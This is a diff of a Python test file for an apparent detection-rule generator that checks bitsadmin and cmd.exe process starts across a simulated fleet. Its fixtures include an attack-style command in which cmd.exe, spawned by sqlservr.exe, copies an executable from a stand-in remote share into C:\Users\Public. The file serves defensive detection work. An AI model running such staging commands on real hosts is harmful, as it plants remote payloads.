@@ -32,8 +32,9 @@ def table(*rows: dict[str, Any]) -> pl.DataFrame:
     return pl.DataFrame(rows, schema=STARTS, orient="row")
 
 
-def quiet(hosts: int = 400, line: str = "svchost.exe -k a") -> list[dict[str, Any]]:
-    return [start(host, line, S32 + "svchost.exe", days=day) for host in range(hosts) for day in range(3)]
+def quiet(hosts: int = 400, tenants: int = 8) -> list[dict[str, Any]]:
+    return [start(host, "svchost.exe -k a", S32 + "svchost.exe", days=day, tenant=f"t{host % tenants}")
+            for host in range(hosts) for day in range(3)]  # fmt: skip
 
 
 def deed(line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> Deed:
@@ -63,8 +64,8 @@ def fires(found: Found, line: str, image: str = S32 + "bitsadmin.exe") -> bool:
 
 def test_the_articles_rule() -> None:
     """Lawful transfers go to other places; the rule needs neither job, address nor file, and not the account."""
-    lawful_use = [start(host, f"bitsadmin /transfer j /download http://wsus/{host}.zip d:\\jobs\\{host}.zip")
-                  for host in range(6)]  # fmt: skip
+    lawful_use = [start(host, f"bitsadmin /transfer j /download http://wsus/{host}.zip d:\\jobs\\{host}.zip",
+                        tenant=f"t{host}") for host in range(6)]  # fmt: skip
     (found,), reasons, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
     assert not reasons
     assert {"program", "bits_transfer", "remote"} <= set(names(found))
@@ -128,7 +129,7 @@ def test_days_of_an_attack_are_neither_lawful_not_counted() -> None:
     attacked_host = [start(0, "x", tenant="v", host="ATTACKED"), start(0, ATTACK, tenant="v", host="attacked")]
     of_fleet = fleet(table(*quiet(), *attacked_host), [deed(ATTACK)])
     assert of_fleet.host_days == 400 * 3
-    assert of_fleet.use(("bitsadmin.exe",)).host_days == 0
+    assert of_fleet.use(("bitsadmin.exe",)).faces.is_empty()
 
 
 @pytest.mark.parametrize(
@@ -195,7 +196,8 @@ def test_marginal_coverage_names_the_rules_that_know_it_already() -> None:
 def test_a_service_as_parent_is_the_last_resort_and_makes_an_account_rule() -> None:
     line = '"C:\\Windows\\system32\\cmd.exe" /c copy \\\\198.51.100.7\\a\\b.exe C:\\Users\\Public\\b.exe'
     sql = "C:\\MSSQL\\Binn\\sqlservr.exe"
-    same = [start(host, line.replace("b.exe", f"s{host}.exe"), S32 + "cmd.exe") for host in range(30)]
+    same = [start(host, line.replace("b.exe", f"s{host}.exe"), S32 + "cmd.exe", tenant=f"t{host % 8}")
+            for host in range(30)]  # fmt: skip
     found, _, of_fleet = made([deed(line, S32 + "cmd.exe", parent_image=sql)], [*quiet(), *same])
     assert [each.logic.account_rule for each in found] == [True]
     assert proof(found[0], lawful(of_fleet)).account_rule
